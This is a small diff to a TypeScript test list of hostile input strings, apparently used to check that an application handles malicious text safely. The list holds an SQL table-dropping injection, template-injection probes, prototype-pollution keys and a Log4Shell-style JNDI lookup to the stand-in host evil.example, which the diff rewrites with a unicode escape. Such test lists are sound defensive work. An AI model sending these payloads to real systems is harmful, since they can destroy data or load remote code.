@@ -30,7 +30,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '*_~`>|<>&"\'',
   "'; DROP TABLE users; --",
   '{"id":"7","text":"who patches rds?"}',
-  '${jndi:ldap://evil.example/a}',
+  '$\u007bjndi:ldap://evil.example/a}',
   '{{7*7}} <%= 7*7 %>',
   '__proto__',
   'constructor',
